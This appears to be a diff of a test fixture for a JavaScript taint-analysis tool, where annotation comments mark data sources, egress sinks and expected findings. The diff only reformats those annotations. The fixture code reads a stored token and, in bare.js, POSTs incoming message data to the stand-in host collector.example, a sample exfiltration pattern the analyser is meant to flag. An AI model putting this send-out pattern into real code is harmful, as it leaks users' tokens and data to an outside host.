@@ -14,7 +14,7 @@ class Page {
   }
 }
 const page = new Page();
-page.keep(localStorage.getItem('token')); //~ source(DATABASE) w1 w4 w5
+page.keep(localStorage.getItem('token')); //~ source(DATABASE) w1, source(DATABASE) w4, source(DATABASE) w5
 page.flush();
 // --- path: worker.js ---
 self.onmessage = ({ data }) => { //~ source(INPUT) w3
@@ -23,7 +23,7 @@ self.onmessage = ({ data }) => { //~ source(INPUT) w3
   }
   fetch('https://collector.example/n', { method: 'POST', body: data.length }); //~ ok
 };
-postMessage(navigator.userAgent); //~ source(DEVICE) w2 w8, sink(egress.ipc) w8, finding(data-to-local-process, traced) w8
+postMessage(navigator.userAgent); //~ source(DEVICE) w2, source(DEVICE) w8, sink(egress.ipc) w8, finding(data-to-local-process, traced) w8
 // --- path: bare.js ---
 onmessage = (event) => { //~ source(INPUT) w6
   fetch('https://collector.example/c', { method: 'POST', body: event.data }); //~ sink(egress.http) w4 w6, finding(assumed) w4, finding(traced) w6
